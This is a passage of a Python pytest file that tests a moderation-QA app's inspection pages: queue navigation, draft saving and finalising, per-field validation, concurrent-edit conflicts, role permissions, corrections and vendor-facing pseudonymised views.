"""The /inspections pages as people use them (DESIGN §1, §2): inspecting an item of the
queue (draft, finalise and on to the next), the verdict's rules shown on the right
field, two people on one draft, who may inspect and correct, what vendor users see,
the list's filters and its CSV export."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime

import pytest
import sqlalchemy as sa

from app.extensions import db
from app.inspections import services
from app.models import Inspection, InspectionVersion, SampleItem
from tests.builders import inspections
from tests.builders.world import module_world
from tests.factories import TEST_PASSWORD, LabelFactory, UserFactory, VendorFactory
from tests.refs import ref, row_id

# World ----------------------------------------------------------------------------------


@module_world
def world():
    """ACME with a published listing scorecard, three decisions of March 2026 in an
    open contract sample assigned to Ines, and GLOBEX next door."""
    vendor = VendorFactory(code="ACME", name="Acme Moderation")
    other = VendorFactory(code="GLOBEX", name="Globex Outsourcing")
    version = inspections.scorecard("listing")
    labels = [
        LabelFactory(code="LST-FAKE", name="Counterfeit", policy_area="listing"),
        LabelFactory(code="LST-PROHIB", name="Prohibited item", policy_area="listing"),
        LabelFactory(code="LST-COPY", name="Copied listing", policy_area="listing"),
    ]
    seller_label = LabelFactory(code="SEL-ID", name="Identity", policy_area="seller")
    inspector = UserFactory(
        role="qa_inspector", name="Ines Inspector", email="ines.inspector@qa.example"
    )
    decisions = [
        inspections.decision(
            vendor,
            labels=[labels[0], labels[1]],
            moderator_id="MOD-ALPHA",
            site="Cebu",
            market="PH",
            item_id="ITEM-WATCH-77",
            item_url="https://shop.example/item/77",
            context={"title": "Cheap luxury watch", "seller": {"page": "https://shop.example/s/9"}},
            decided=datetime(2026, 3, 10, 9, 30, tzinfo=UTC),
        ),
        inspections.decision(vendor, decided=datetime(2026, 3, 11, 9, 0, tzinfo=UTC)),
        inspections.decision(
            vendor, labels=[labels[2]], decided=datetime(2026, 3, 12, 9, 0, tzinfo=UTC)
        ),
    ]
    sample = inspections.sample_of(vendor, decisions, assignee=inspector)
    db.session.commit()
    return {
        "vendor": vendor,
        "other": other,
        "version": version,
        "labels": labels,
        "seller_label": seller_label,
        "inspector": inspector,
        "decisions": decisions,
        "sample": sample,
        "items": items_of(sample),
    }


def items_of(sample) -> list[SampleItem]:
    return list(
        db.session.scalars(
            sa.select(SampleItem).where(SampleItem.sample_id == sample.id).order_by(SampleItem.id)
        )
    )


def questions(world):
    return services.questions_of(world["version"])


def verdict(world, decision, *, action="finalise_next", answers=None, **changes) -> dict:
    """The inspect form as a person fills it in: by default QA agrees with the moderator
    and answers every question yes."""
    codes = decision.label_codes
    data = {
        "expected_decision": decision.decision,
        "primary_label": codes[0] if codes else "",
        "other_labels": codes[1:],
        "severity": "none",
        "notes": "",
        "action": action,
    }
    given = {**inspections.all_yes(), **(answers or {})}
    for q in questions(world):
        if given.get(q.key) is not None:
            data[f"answer_{q.id}"] = given[q.key]
    data.update(changes)
    return data


def _count(model) -> int:
    return db.session.scalar(sa.select(sa.func.count()).select_from(model))


def _text(response) -> str:
    return re.sub(r"\s+", " ", response.get_data(as_text=True))


def field_error(page: str, label: str, message: str) -> bool:
    """Whether the form's error summary names `message` on the field labelled `label`."""
    return f"<strong>{label}</strong>: {message}" in page


def item_status(item) -> str:
    db.session.expire_all()
    return db.session.get(SampleItem, item.id).status


def inspection_of(decision) -> Inspection | None:
    db.session.expire_all()
    return db.session.scalar(sa.select(Inspection).where(Inspection.decision_id == decision.id))


def listed_ids(response) -> set[int]:
    """The inspections a list page shows (its rows' "#id" links)."""
    page = response.get_data(as_text=True)
    return {row_id(int(i)) for i in re.findall(r'href="/inspections/(\d+)">#\1</a>', page)}


def signed_in_client(app, user):
    """Another browser, signed in as `user`."""
    other = app.test_client()
    response = other.post("/auth/login", data={"email": user.email, "password": TEST_PASSWORD})
    assert response.status_code == 302
    return other


# Inspecting from the queue ----------------------------------------------------------------


def test_the_queue_links_to_the_inspect_page_which_shows_the_decision(client, auth, world):
    auth.login(world["inspector"])
    item = world["items"][0]
    queue = client.get("/sampling/queue").get_data(as_text=True)
    assert f'href="/inspections/items/{ref(item)}"' in queue
    assert all(f'href="/inspections/items/{ref(i)}"' in queue for i in world["items"])

    response = client.get(f"/inspections/items/{ref(item)}")
    assert response.status_code == 200
    page = _text(response)
    d = world["decisions"][0]
    assert f"Inspect {d.external_id}" in page
    for shown in ("ACME", "Acme Moderation", "MOD-ALPHA", "Cebu", "PH", "Listing"):
        assert shown in page
    assert "ITEM-WATCH-77" in page
    link = re.search(r'<a [^>]*href="https://shop\.example/item/77"[^>]*>', page)
    assert link is not None
    assert re.search(r'rel="[^"]*\bnoopener\b', link.group(0))
    # The context as text and links.
    assert "Cheap luxury watch" in page
    assert "seller.page" in page
    context_link = re.search(r'<a [^>]*href="https://shop\.example/s/9"[^>]*>', page)
    assert context_link is not None and "noopener" in context_link.group(0)
    # The labels the moderator applied, primary first, and the decision's time.
    assert page.index("LST-FAKE") < page.index("LST-PROHIB")
    assert "Counterfeit" in page and "(primary)" in page
    assert "2026-03-10T09:30:00" in page
    # The scorecard's questions, each as a group of radio buttons.
    for q in questions(world):
        assert q.text in page
        assert f'name="answer_{q.id}"' in page
    assert 'value="finalise_next"' in page and 'value="save"' in page


def test_save_draft_then_continue_it_from_the_queue(client, auth, world):
    auth.login(world["inspector"])
    item, d = world["items"][0], world["decisions"][0]
    data = verdict(world, d, action="save", answers={"evidence_checked": None}, notes="Half way")
    response = client.post(f"/inspections/items/{ref(item)}", data=data)
    assert response.status_code == 302, _text(response)[:3000]
    inspection = inspection_of(d)
    assert inspection is not None and inspection.status == "draft"
    assert response.headers["Location"].endswith(f"/inspections/{ref(inspection)}/edit")
    assert inspection.notes == "Half way"
    assert item_status(item) == "pending"

    edit = _text(client.get(response.headers["Location"]))
    assert "Draft saved (version 1)." in edit
    assert "draft v1" in edit and "Half way" in edit
    assert 'name="version" type="hidden" value="1"' in edit

    queue = _text(client.get("/sampling/queue"))
    row = re.search(rf"#{ref(item)}</td>.*?</tr>", queue)
    assert row is not None and ">Continue</a>" in row.group(0)
    others = [i for i in world["items"] if i.id != item.id]
    for other in others:
        row = re.search(rf"#{ref(other)}</td>.*?</tr>", queue)
        assert row is not None and ">Start</a>" in row.group(0)
        assert "Continue" not in row.group(0)
    # The queue's link for the draft leads to the draft.
    again = client.get(f"/inspections/items/{ref(item)}")
    assert again.status_code == 302
    assert again.headers["Location"].endswith(f"/inspections/{ref(inspection)}/edit")


def _progress(page: str) -> tuple[str, str]:
    """The inspect page's queue progress: its text, and its bar's tag."""
    block = re.search(r"<div class=\"card mb-3\" data-queue-progress>.*?</progress>", page, re.S)
    assert block is not None, "no queue progress on the page"
    bar = re.search(r"<progress [^>]*>", block.group(0)).group(0)
    text = re.sub(r"\s+", " ", re.sub(r"<[^>]+>", " ", block.group(0))).strip()
    return text, bar


def test_the_inspect_page_shows_where_the_item_stands_in_the_queue(client, auth, world):
    auth.login(world["inspector"])
    items, decisions, sample = world["items"], world["decisions"], world["sample"]
    page = client.get(f"/inspections/items/{ref(items[0])}").get_data(as_text=True)
    text, bar = _progress(page)
    assert f"Item 1 of 3 of your items in sample #{ref(sample)} · ACME" in text
    assert "0 inspected · 2 more in your queue after this one" in text
    assert 'value="0" max="3"' in bar and "style=" not in bar

    client.post(f"/inspections/items/{ref(items[0])}", data=verdict(world, decisions[0]))
    text, bar = _progress(client.get(f"/inspections/items/{ref(items[1])}").get_data(as_text=True))
    assert "Item 2 of 3 of your items" in text
    assert "1 inspected · 1 more in your queue after this one" in text
    assert 'value="1" max="3"' in bar

    # A draft of the last item keeps its place: item 3 of 3.
    data = verdict(world, decisions[2], action="save")
    draft = client.post(f"/inspections/items/{ref(items[2])}", data=data)
    text, bar = _progress(client.get(draft.headers["Location"]).get_data(as_text=True))
    assert "Item 3 of 3 of your items" in text and 'value="1" max="3"' in bar


def test_a_lead_on_someone_elses_item_sees_whose_queue_it_is(client, login_as, world):
    login_as("qa_lead")
    page = client.get(f"/inspections/items/{ref(world['items'][1])}").get_data(as_text=True)
    text, _ = _progress(page)
    assert "Item 2 of 3 of Ines Inspector\u2019s items" in text
    assert "more in this queue after this one" in text


def test_a_hand_picked_decision_shows_no_queue_progress(client, login_as, world):
    login_as("qa_lead")
    decision = inspections.decision(world["vendor"], decided=datetime(2026, 3, 20, tzinfo=UTC))
    db.session.commit()
    page = client.get(f"/inspections/decisions/{ref(decision)}").get_data(as_text=True)
    assert "Inspect " + decision.external_id in page
    assert "data-queue-progress" not in page


def test_finalising_with_a_question_unanswered_is_refused_and_stores_nothing(client, auth, world):
    auth.login(world["inspector"])
    item, d = world["items"][0], world["decisions"][0]
    data = verdict(world, d, answers={"label_specific": None})
    response = client.post(f"/inspections/items/{ref(item)}", data=data)
    assert response.status_code == 422
    page = _text(response)
    assert field_error(page, "Question label_specific", "Answer this question before finalising.")
    assert page.count("Answer this question before finalising.") == 2  # summary + field
    assert not field_error(page, "Question policy_applied", "Answer this question")
    assert _count(Inspection) == 0
    assert item_status(item) == "pending"
    # What was typed in stays on the form.
    first = questions(world)[0]
    assert re.search(rf'<input checked[^>]*name="answer_{first.id}"[^>]*value="yes"', page)


def test_finalising_a_draft_with_a_question_unanswered_keeps_the_draft(client, auth, world):
    auth.login(world["inspector"])
    item, d = world["items"][1], world["decisions"][1]
    client.post(
        f"/inspections/items/{ref(item)}",
        data=verdict(world, d, action="save", answers={"evidence_checked": None}, notes="v1"),
    )
    inspection = inspection_of(d)
    data = verdict(world, d, answers={"evidence_checked": None}, notes="changed", version="1")
    response = client.post(f"/inspections/{ref(inspection)}/edit", data=data)
    assert response.status_code == 422
    page = _text(response)
    assert field_error(page, "Question evidence_checked", "Answer this question before finalising.")
    inspection = inspection_of(d)
    assert (inspection.status, inspection.version, inspection.notes) == ("draft", 1, "v1")
    assert _count(InspectionVersion) == 1


def test_finalise_and_next_walks_the_queue_and_the_last_goes_to_the_inspection(client, auth, world):
    auth.login(world["inspector"])
    items, decisions = world["items"], world["decisions"]
    response = client.post(f"/inspections/items/{ref(items[0])}", data=verdict(world, decisions[0]))
    assert response.status_code == 302
    assert response.headers["Location"].endswith(f"/inspections/items/{ref(items[1])}")
    follow = _text(client.get(response.headers["Location"]))
    assert f"Inspection of {decisions[0].external_id} finalised." in follow
    assert item_status(items[0]) == "inspected"
    assert inspection_of(decisions[0]).status == "final"

    response = client.post(f"/inspections/items/{ref(items[1])}", data=verdict(world, decisions[1]))
    assert response.headers["Location"].endswith(f"/inspections/items/{ref(items[2])}")

    response = client.post(f"/inspections/items/{ref(items[2])}", data=verdict(world, decisions[2]))
    assert response.status_code == 302
    last = inspection_of(decisions[2])
    assert response.headers["Location"].endswith(f"/inspections/{ref(last)}")
    assert [item_status(i) for i in items] == ["inspected"] * 3
    queue = _text(client.get("/sampling/queue"))
    assert "No items are waiting for you." in queue
    detail = client.get(f"/inspections/{ref(last)}").get_data(as_text=True)
    assert '<span class="badge text-bg-success">final</span>' in detail
    assert '<span class="badge text-bg-success">Correct</span>' in detail


def test_finalise_and_next_goes_on_to_the_item_after_the_one_just_finalised(client, auth, world):
    """Skipping the first item and finalising the second leads to the third, as the
    page's own "Next in my queue" link says, not back to the first."""
    auth.login(world["inspector"])
    items, decisions = world["items"], world["decisions"]
    page = client.get(f"/inspections/items/{ref(items[1])}").get_data(as_text=True)
    next_link = re.search(r'href="/inspections/items/(\d+)" accesskey="n"', page)
    assert next_link is not None and int(next_link.group(1)) == ref(items[2])
    response = client.post(f"/inspections/items/{ref(items[1])}", data=verdict(world, decisions[1]))
    assert response.status_code == 302
    assert response.headers["Location"].endswith(f"/inspections/items/{ref(items[2])}")


def test_finalising_a_draft_goes_to_the_next_item_and_marks_the_item_inspected(client, auth, world):
    auth.login(world["inspector"])
    items, d = world["items"], world["decisions"][0]
    client.post(f"/inspections/items/{ref(items[0])}", data=verdict(world, d, action="save"))
    inspection = inspection_of(d)
    response = client.post(
        f"/inspections/{ref(inspection)}/edit", data=verdict(world, d, version="1")
    )
    assert response.status_code == 302
    assert response.headers["Location"].endswith(f"/inspections/items/{ref(items[1])}")
    inspection = inspection_of(d)
    assert (inspection.status, inspection.version) == ("final", 2)
    assert item_status(items[0]) == "inspected"


# The verdict's rules, on the field they concern ---------------------------------------------


@pytest.mark.parametrize(
    ("decision_index", "changes", "label", "message"),
    [
        (
            0,
            {"expected_decision": "reject", "primary_label": "", "other_labels": []},
            "Expected primary label",
            "A reject needs at least one label.",
        ),
        (
            1,
            {"expected_decision": "approve", "primary_label": "LST-FAKE", "severity": "none"},
            "Expected primary label",
            "An approve takes no labels.",
        ),
        (
            0,
            {"expected_decision": "approve", "primary_label": "", "other_labels": []},
            "Severity",
            "The moderator got it wrong: choose minor, major or critical.",
        ),
        (
            1,
            {"expected_decision": "approve", "severity": "major"},
            "Severity",
            "The moderator got it right: the severity is none.",
        ),
        (
            2,
            {"primary_label": "LST-OLD", "severity": "major"},
            "Expected primary label",
            "LST-OLD is retired; choose a current one.",
        ),
        (
            2,
            {"primary_label": "SEL-ID", "severity": "major"},
            "Expected primary label",
            "SEL-ID is a seller label; this decision is about listing.",
        ),
        (
            0,
            {"severity": ""},
            "Severity",
            "Choose a severity.",
        ),
        (
            0,
            {"expected_decision": ""},
            "Expected decision",
            "Choose the expected decision.",
        ),
    ],
)
def test_a_bad_verdict_is_refused_with_the_message_on_its_field(
    client, auth, world, decision_index, changes, label, message
):
    LabelFactory(
        code="LST-OLD",
        name="Old rule",
        policy_area="listing",
        active=False,
        retired_at=datetime(2026, 1, 1, tzinfo=UTC),
    )
    db.session.commit()
    auth.login(world["inspector"])
    item, d = world["items"][decision_index], world["decisions"][decision_index]
    response = client.post(f"/inspections/items/{ref(item)}", data=verdict(world, d, **changes))
    assert response.status_code == 422, _text(response)[:2000]
    page = _text(response)
    assert field_error(page, label, message), page[page.find("alert-danger") :][:1500]
    assert _count(Inspection) == 0
    assert _count(InspectionVersion) == 0
    assert item_status(item) == "pending"


def test_a_retired_label_is_not_offered_and_other_areas_labels_neither(client, auth, world):
    LabelFactory(
        code="LST-OLD",
        name="Old rule",
        policy_area="listing",
        active=False,
        retired_at=datetime(2026, 1, 1, tzinfo=UTC),
    )
    db.session.commit()
    auth.login(world["inspector"])
    page = client.get(f"/inspections/items/{ref(world['items'][0])}").get_data(as_text=True)
    assert 'value="LST-COPY"' in page
    assert 'value="LST-OLD"' not in page
    assert 'value="SEL-ID"' not in page


def test_labels_on_an_approve_are_refused_on_a_draft_too(client, auth, world):
    auth.login(world["inspector"])
    item, d = world["items"][1], world["decisions"][1]
    data = verdict(world, d, action="save", other_labels=["LST-COPY"])
    response = client.post(f"/inspections/items/{ref(item)}", data=data)
    assert response.status_code == 422
    assert field_error(_text(response), "Expected primary label", "An approve takes no labels.")
    assert _count(Inspection) == 0


def test_a_bad_verdict_on_a_draft_changes_nothing(client, auth, world):
    auth.login(world["inspector"])
    item, d = world["items"][0], world["decisions"][0]
    client.post(
        f"/inspections/items/{ref(item)}", data=verdict(world, d, action="save", notes="ok")
    )
    inspection = inspection_of(d)
    data = verdict(
        world,
        d,
        action="save",
        version="1",
        expected_decision="approve",
        primary_label="",
        other_labels=[],
        severity="none",
        notes="changed",
    )
    response = client.post(f"/inspections/{ref(inspection)}/edit", data=data)
    assert response.status_code == 422
    assert field_error(
        _text(response), "Severity", "The moderator got it wrong: choose minor, major or critical."
    )
    inspection = inspection_of(d)
    assert (inspection.version, inspection.notes, inspection.expected_decision) == (
        1,
        "ok",
        "reject",
    )


@pytest.mark.parametrize(
    "changes",
    [
        {"expected_decision": "perhaps"},
        {"severity": "catastrophic"},
        {"primary_label": "NO-SUCH-LABEL", "severity": "major"},
        {"primary_label": "LST-FAKE\x00"},
        {"other_labels": [f"X{i}" for i in range(50)]},
        {"notes": "x" * 20_000},
        {"notes": "bell \x07"},
        {"answer_999999": "yes"},
        {"action": "explode"},
    ],
)
def test_hostile_verdicts_are_refused_and_store_nothing(client, auth, world, changes):
    auth.login(world["inspector"])
    item, d = world["items"][0], world["decisions"][0]
    data = verdict(world, d, **changes)
    response = client.post(f"/inspections/items/{ref(item)}", data=data)
    if changes.get("action") == "explode":  # an unknown button saves a draft
        assert response.status_code == 302
        assert inspection_of(d).status == "draft"
        return
    if "answer_999999" in changes:  # a question of no scorecard is ignored
        assert response.status_code == 302
        return
    assert response.status_code in (400, 422), response.status_code
    assert "alert-danger" in response.get_data(as_text=True)
    assert _count(Inspection) == 0


@pytest.mark.parametrize("version", ["", "abc", "-1", "1.5", "99999999999999999999"])
def test_a_hostile_version_on_the_edit_form_is_refused_without_a_server_error(
    client, auth, world, version
):
    auth.login(world["inspector"])
    item, d = world["items"][0], world["decisions"][0]
    client.post(
        f"/inspections/items/{ref(item)}", data=verdict(world, d, action="save", notes="v1")
    )
    inspection = inspection_of(d)
    data = verdict(world, d, action="save", version=version, notes="changed")
    response = client.post(f"/inspections/{ref(inspection)}/edit", data=data)
    assert response.status_code in (409, 422), response.status_code
    inspection = inspection_of(d)
    assert (inspection.version, inspection.notes) == (1, "v1")


@pytest.mark.parametrize("version", ["", "abc", "0", "99999999999999999999"])
def test_a_hostile_version_on_the_correction_form_is_refused_without_a_server_error(
    client, login_as, world, version
):
    d = world["decisions"][0]
    final = inspections.inspect(d, world["inspector"])
    db.session.commit()
    login_as("qa_lead")
    data = verdict(
        world,
        d,
        version=version,
        primary_label="LST-COPY",
        other_labels=[],
        severity="major",
        reason="Looked again",
    )
    response = client.post(f"/inspections/{ref(final)}/correct", data=data)
    assert response.status_code in (409, 422), response.status_code
    assert inspection_of(d).version == 1


# Two people on one draft --------------------------------------------------------------------


def test_two_people_saving_the_same_draft_the_second_is_told_and_loses_nothing(
    app, client, auth, world
):
    inspector = world["inspector"]
    lead = UserFactory(role="qa_lead", name="Lena Lead")
    db.session.commit()
    auth.login(inspector)
    item, d = world["items"][0], world["decisions"][0]
    client.post(
        f"/inspections/items/{ref(item)}", data=verdict(world, d, action="save", notes="v1")
    )
    inspection = inspection_of(d)
    edit_url = f"/inspections/{ref(inspection)}/edit"
    lead_client = signed_in_client(app, lead)

    hidden = re.compile(r'name="version" type="hidden" value="(\d+)"')
    mine = hidden.search(client.get(edit_url).get_data(as_text=True))
    theirs = hidden.search(lead_client.get(edit_url).get_data(as_text=True))
    assert mine.group(1) == theirs.group(1) == "1"

    first = lead_client.post(
        edit_url, data=verdict(world, d, action="save", version="1", notes="The lead's note")
    )
    assert first.status_code == 302
    second = client.post(
        edit_url, data=verdict(world, d, action="save", version="1", notes="My late note")
    )
    assert second.status_code == 409
    page = _text(second)
    assert "was changed by someone else" in page
    assert "reload it and apply your changes again" in page
    inspection = inspection_of(d)
    assert (inspection.version, inspection.notes) == (2, "The lead's note")
    # Finalising on the stale version is refused too.
    third = client.post(edit_url, data=verdict(world, d, version="1", notes="Final late"))
    assert third.status_code == 409
    inspection = inspection_of(d)
    assert (inspection.status, inspection.notes) == ("draft", "The lead's note")
    assert item_status(item) == "pending"


# Who may inspect ------------------------------------------------------------------------------


def test_another_inspector_may_not_inspect_an_item_assigned_to_someone(client, login_as, world):
    login_as("qa_inspector")
    item, d = world["items"][0], world["decisions"][0]
    assert client.get(f"/inspections/items/{ref(item)}").status_code == 403
    assert client.post(f"/inspections/items/{ref(item)}", data=verdict(world, d)).status_code == 403
    assert _count(Inspection) == 0


def test_another_inspector_may_not_edit_someone_elses_draft(client, auth, login_as, world):
    auth.login(world["inspector"])
    item, d = world["items"][0], world["decisions"][0]
    client.post(f"/inspections/items/{ref(item)}", data=verdict(world, d, action="save"))
    inspection = inspection_of(d)
    auth.logout()
    login_as("qa_inspector")
    url = f"/inspections/{ref(inspection)}/edit"
    assert client.get(url).status_code == 403
    assert client.post(url, data=verdict(world, d, version="1", notes="x")).status_code == 403
    assert inspection_of(d).version == 1


def test_a_lead_inspects_any_item(client, login_as, world):
    lead = login_as("qa_lead")
    item, d = world["items"][0], world["decisions"][0]
    assert client.get(f"/inspections/items/{ref(item)}").status_code == 200
    response = client.post(f"/inspections/items/{ref(item)}", data=verdict(world, d))
    assert response.status_code == 302
    inspection = inspection_of(d)
    assert (inspection.inspector_id, inspection.purpose, inspection.status) == (
        lead.id,
        "contract",
        "final",
    )


@pytest.mark.parametrize("role", ["vendor_lead", "vendor_viewer", "admin"])
def test_vendor_users_and_admins_may_not_inspect(client, auth, login_as, world, role):
    auth.login(world["inspector"])
    d = world["decisions"][0]
    client.post(
        f"/inspections/items/{ref(world['items'][0])}", data=verdict(world, d, action="save")
    )
    draft = inspection_of(d)
    final = inspections.inspect(world["decisions"][1], world["inspector"])
    outside = inspections.decision(world["vendor"])
    db.session.commit()
    auth.logout()
    login_as(role, vendor=world["vendor"] if role.startswith("vendor") else None)
    for url in (
        f"/inspections/items/{ref(world['items'][2])}",
        f"/inspections/decisions/{ref(outside)}",
        f"/inspections/{ref(draft)}/edit",
        f"/inspections/{ref(final)}/correct",
    ):
        assert client.get(url).status_code == 403, url
        assert client.post(url, data=verdict(world, d, version="1")).status_code == 403, url
    assert _count(Inspection) == 2


def test_a_lead_inspects_a_decision_outside_any_sample_as_targeted(client, login_as, world):
    lead = login_as("qa_lead")
    outside = inspections.decision(
        world["vendor"], labels=[world["labels"][1]], moderator_id="MOD-OUT"
    )
    db.session.commit()
    page = client.get(f"/inspections/decisions/{ref(outside)}")
    assert page.status_code == 200
    text = _text(page)
    assert "targeted" in text and "MOD-OUT" in text
    assert "Finalise and next" not in text  # no queue to go on with
    data = verdict(
        world,
        outside,
        action="finalise",
        severity="major",
        primary_label="LST-COPY",
        other_labels=[],
    )
    response = client.post(f"/inspections/decisions/{ref(outside)}", data=data)
    assert response.status_code == 302
    inspection = inspection_of(outside)
    assert response.headers["Location"].endswith(f"/inspections/{ref(inspection)}")
    assert (inspection.purpose, inspection.status, inspection.inspector_id) == (
        "targeted",
        "final",
        lead.id,
    )
    assert inspection.sample_item_id is None and inspection.correct is False
    detail = _text(client.get(f"/inspections/{ref(inspection)}"))
    assert "targeted" in detail and "Incorrect" in detail
    # Once inspected, the page leads to the inspection.
    again = client.get(f"/inspections/decisions/{ref(outside)}")
    assert again.status_code == 302
    assert again.headers["Location"].endswith(f"/inspections/{ref(inspection)}")


def test_a_decision_in_an_open_sample_is_inspected_from_its_item(client, login_as, world):
    login_as("qa_lead")
    response = client.get(f"/inspections/decisions/{ref(world['decisions'][0])}")
    assert response.status_code == 302
    assert response.headers["Location"].endswith(f"/inspections/items/{ref(world['items'][0])}")


def test_an_inspector_may_not_hand_pick_a_decision(client, auth, world):
    outside = inspections.decision(world["vendor"])
    db.session.commit()
    auth.login(world["inspector"])
    assert client.get(f"/inspections/decisions/{ref(outside)}").status_code == 403
    assert (
        client.post(
            f"/inspections/decisions/{ref(outside)}", data=verdict(world, outside)
        ).status_code
        == 403
    )
    assert _count(Inspection) == 0


def test_unknown_items_and_decisions_are_not_found(client, login_as, world):
    login_as("qa_lead")
    for url in (
        "/inspections/items/999999",
        "/inspections/decisions/999999",
        "/inspections/999999",
        "/inspections/999999/edit",
        "/inspections/999999/correct",
        "/inspections/items/99999999999999",
    ):
        assert client.get(url).status_code == 404, url


# A final inspection and its correction ------------------------------------------------------


def test_the_edit_page_of_a_final_inspection_leads_to_its_page(client, auth, world):
    final = inspections.inspect(world["decisions"][0], world["inspector"])
    db.session.commit()
    auth.login(world["inspector"])
    response = client.get(f"/inspections/{ref(final)}/edit")
    assert response.status_code == 302
    assert response.headers["Location"].endswith(f"/inspections/{ref(final)}")
    posted = client.post(
        f"/inspections/{ref(final)}/edit", data=verdict(world, world["decisions"][0], version="1")
    )
    assert posted.status_code == 302
    assert posted.headers["Location"].endswith(f"/inspections/{ref(final)}")
    assert inspection_of(world["decisions"][0]).version == 1
    # The queue's link for an inspected item leads to its inspection, not to a new one.
    item = client.get(f"/inspections/items/{ref(world['items'][0])}")
    assert item.status_code == 302
    assert item.headers["Location"].endswith(f"/inspections/{ref(final)}")


def test_a_lead_corrects_a_final_inspection_with_a_reason(client, login_as, world):
    d = world["decisions"][0]
    final = inspections.inspect(d, world["inspector"])
    db.session.commit()
    lead = login_as("qa_lead", name="Lena Lead")
    detail = _text(client.get(f"/inspections/{ref(final)}"))
    assert f'href="/inspections/{ref(final)}/correct"' in detail

    page = client.get(f"/inspections/{ref(final)}/correct")
    assert page.status_code == 200
    assert 'name="reason"' in page.get_data(as_text=True)
    change = {
        "expected_decision": "reject",
        "primary_label": "LST-COPY",
        "other_labels": [],
        "severity": "major",
        "version": "1",
    }
    refused = client.post(f"/inspections/{ref(final)}/correct", data=verdict(world, d, **change))
    assert refused.status_code == 422
    assert field_error(
        _text(refused), "Reason for the correction", "Say why the inspection is corrected."
    )
    inspection = inspection_of(d)
    assert (inspection.version, inspection.correct) == (1, True)

    reason = "The photos show a copied listing, not a counterfeit."
    response = client.post(
        f"/inspections/{ref(final)}/correct", data=verdict(world, d, reason=reason, **change)
    )
    assert response.status_code == 302
    assert response.headers["Location"].endswith(f"/inspections/{ref(final)}")
    inspection = inspection_of(d)
    assert (inspection.version, inspection.correct, inspection.severity) == (2, False, "major")
    assert inspection.status == "final"
    page = _text(client.get(f"/inspections/{ref(final)}"))
    assert f"Inspection #{ref(final)} corrected." in page
    history = page[page.index("History") :]
    assert "finalise" in history and "correction" in history and reason in history
    assert "reject (LST-FAKE, LST-PROHIB), severity none, correct" in history
    assert "reject (LST-COPY), severity major, incorrect" in history
    assert "Lena Lead" in history and "Ines Inspector" in history
    versions = db.session.scalars(
        sa.select(InspectionVersion.version).where(InspectionVersion.inspection_id == final.id)
    ).all()
    assert sorted(versions) == [1, 2]
    assert lead.id in set(
        db.session.scalars(
            sa.select(InspectionVersion.changed_by_id).where(
                InspectionVersion.inspection_id == final.id
            )
        )
    )


def test_a_correction_that_changes_nothing_is_refused(client, login_as, world):
    d = world["decisions"][0]
    final = inspections.inspect(d, world["inspector"])
    db.session.commit()
    login_as("qa_lead")
    response = client.post(
        f"/inspections/{ref(final)}/correct",
        data=verdict(world, d, version="1", reason="Looked again"),
    )
    assert response.status_code == 422
    assert "Change at least one part of the verdict." in _text(response)
    assert inspection_of(d).version == 1


def test_inspectors_may_not_correct(client, auth, world):
    d = world["decisions"][0]
    final = inspections.inspect(d, world["inspector"])
    db.session.commit()
    auth.login(world["inspector"])
    assert client.get(f"/inspections/{ref(final)}/correct").status_code == 403
    data = verdict(
        world,
        d,
        version="1",
        severity="major",
        primary_label="LST-COPY",
        other_labels=[],
        reason="mine",
    )
    assert client.post(f"/inspections/{ref(final)}/correct", data=data).status_code == 403
    assert inspection_of(d).version == 1
    assert "/correct" not in client.get(f"/inspections/{ref(final)}").get_data(as_text=True)


# What vendor users see ------------------------------------------------------------------------


@module_world(on=world)
def published(world):
    """ACME: two final inspections and a draft; GLOBEX: a final inspection."""
    inspector = world["inspector"]
    finals = [
        inspections.inspect(world["decisions"][0], inspector, notes="Well judged"),
        inspections.inspect(
            world["decisions"][1],
            inspector,
            expected="reject",
            expected_labels=["LST-COPY"],
            severity="critical",
        ),
    ]
    draft = inspections.inspect(world["decisions"][2], inspector, finalise=False)
    theirs_decision = inspections.decision(world["other"], moderator_id="MOD-GLOBEX")
    inspections.sample_of(world["other"], [theirs_decision])
    theirs = inspections.inspect(theirs_decision, inspector)
    db.session.commit()
    return {"finals": finals, "draft": draft, "theirs": theirs}


@pytest.mark.parametrize("role", ["vendor_lead", "vendor_viewer"])
def test_vendor_users_see_only_their_final_inspections_under_pseudonyms(
    client, login_as, world, published, role
):
    login_as(role, vendor=world["vendor"])
    inspector = world["inspector"]
    response = client.get("/inspections/")
    assert response.status_code == 200
    assert listed_ids(response) == {i.id for i in published["finals"]}
    page = _text(response)
    assert inspector.pseudonym in page
    assert inspector.name not in page and inspector.email not in page
    assert "Globex" not in page and "GLOBEX" not in page and "MOD-GLOBEX" not in page

    detail = client.get(f"/inspections/{ref(published['finals'][0])}")
    assert detail.status_code == 200
    text = _text(detail)
    assert f"QA-{inspector.id}" in text and "Well judged" in text
    assert inspector.name not in text and inspector.email not in text

    assert client.get(f"/inspections/{ref(published['draft'])}").status_code == 404
    assert client.get(f"/inspections/{ref(published['theirs'])}").status_code == 404
    assert client.get("/inspections/?vendor=GLOBEX").status_code == 404
    assert client.get("/inspections/export.csv?vendor=GLOBEX").status_code == 404
    assert client.get("/inspections/?vendor=NOSUCH").status_code == 404
    # Asking for drafts still shows final inspections only.
    assert listed_ids(client.get("/inspections/?status=draft")) == {
        i.id for i in published["finals"]
    }
    assert listed_ids(client.get("/inspections/?vendor=ACME")) == {
        i.id for i in published["finals"]
    }
    # One vendor and final inspections only: no column that says the same on every row.
    headers = re.findall(r'<th scope="col"[^>]*>([^<]+)</th>', page)
    assert "Vendor" not in headers and "Status" not in headers and "Inspector" in headers


def test_vendor_users_see_the_history_from_finalisation_on_under_pseudonyms(
    client, auth, login_as, world
):
    inspector, d = world["inspector"], world["decisions"][0]
    lead = UserFactory(role="qa_lead", name="Lena Lead", email="lena.lead@qa.example")
    db.session.commit()
    auth.login(inspector)
    item = world["items"][0]
    client.post(f"/inspections/items/{ref(item)}", data=verdict(world, d, action="save"))
    inspection = inspection_of(d)
    client.post(f"/inspections/{ref(inspection)}/edit", data=verdict(world, d, version="1"))
    auth.logout()
    auth.login(lead)
    reason = "Copied listing after all"
    response = client.post(
        f"/inspections/{ref(inspection)}/correct",
        data=verdict(
            world,
            d,
            version="2",
            primary_label="LST-COPY",
            other_labels=[],
            severity="minor",
            reason=reason,
        ),
    )
    assert response.status_code == 302
    auth.logout()

    login_as("vendor_lead", vendor=world["vendor"])
    page = client.get(f"/inspections/{ref(inspection)}")
    assert page.status_code == 200
    doc = page.get_data(as_text=True)
    history = _text(page)[_text(page).index("History") :]
